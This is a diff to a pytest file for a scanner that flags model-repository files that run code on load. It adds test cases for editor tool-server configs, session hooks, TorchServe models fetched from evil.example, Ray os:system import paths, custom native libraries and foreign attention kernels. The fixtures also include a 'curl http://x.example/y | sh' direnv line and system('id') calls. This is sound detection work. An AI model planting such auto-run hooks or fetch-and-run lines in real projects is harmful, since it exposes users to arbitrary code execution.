@@ -17,7 +17,7 @@ LOGGING = "[handlers]\nkeys=h\n[handler_h]\nclass={}\nargs={}\n"
 
 def scanned(name: str, content: object) -> Inspection:
     text = content if isinstance(content, str) else json.dumps(content)
-    return inspect(MemorySource({name: text.encode(), "config.json": b"{}"}), progress=Silent())
+    return inspect(MemorySource({"config.json": b"{}", name: text.encode()}), progress=Silent())
 
 
 def checks(found: Inspection) -> set[str]:
@@ -82,6 +82,36 @@ def checks(found: Inspection) -> set[str]:
             "settings-run-code",
             id="spaCy callback",
         ),
+        pytest.param(
+            ".cursor/mcp.json",
+            {"mcpServers": {"x": {"command": "sh", "args": ["-c", "id"]}}},
+            "settings-run-code",
+            id="editor, tool server",
+        ),
+        pytest.param(
+            ".claude/settings.json",
+            {"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "id"}]}]}},
+            "settings-run-code",
+            id="editor, hook",
+        ),
+        pytest.param(
+            "config.properties",
+            "load_models=http://evil.example/x.mar\n",
+            "settings-run-code",
+            id="TorchServe, model at a URL",
+        ),
+        pytest.param(
+            "serve.yaml", "applications:\n- import_path: os:system\n", "config-imports-target", id="Ray, import path"
+        ),
+        pytest.param(
+            "genai_config.json",
+            {"model": {"session_options": {"custom_ops_library": "./x.so"}}},
+            "config-loads-library",
+            id="ONNX Runtime, library",
+        ),
+        pytest.param(
+            "config.json", {"_attn_implementation": "evil/kernel:fn"}, "code-from-elsewhere", id="kernel of a stranger"
+        ),
         pytest.param(".Rprofile", 'system("id")\n', "script-reaches-out", id="R profile"),
         pytest.param(".envrc", "curl http://x.example/y | sh\n", "script-reaches-out", id="direnv"),
         pytest.param(".bashrc", "whoami\n", "script-in-model", id="shell start"),
@@ -142,7 +172,14 @@ def checks(found: Inspection) -> set[str]:
         ),
         *(
             pytest.param(name, "import os\nos.system('id')\n", "python-reaches-out", id=name)
-            for name in ("__init__.py", "torch.py", "jupyter_server_config.py", "random.py")
+            for name in (
+                "__init__.py",
+                "torch.py",
+                "jupyter_server_config.py",
+                "random.py",
+                "install.py",
+                "torch-ext/x/__init__.py",
+            )
         ),
     ],
 )
@@ -200,6 +237,15 @@ def test_what_starts_by_being_there_is_flagged(name: str, content: object, check
         ),
         pytest.param(
             "dvc.yaml", "stages:\n  train:\n    cmd: python train.py --data data.csv | tee log\n", id="pipeline"
+        ),
+        pytest.param(
+            ".vscode/mcp.json",
+            {"servers": {"x": {"command": "npx", "args": ["-y", "server"]}}},
+            id="tool server of npm",
+        ),
+        pytest.param("config.properties", "inference_address=http://0.0.0.0:8080\nnumber_of_gpu=1\n", id="TorchServe"),
+        pytest.param(
+            "config.json", {"_attn_implementation": "kernels-community/flash-attn"}, id="kernel of the library"
         ),
         pytest.param("p.json", {"_type": "prompt", "template_path": "template.txt"}, id="prompt beside"),
         pytest.param("x.yaml", "_BASE_: ../Base-RCNN.yaml\n".replace("../", "./"), id="base beside"),
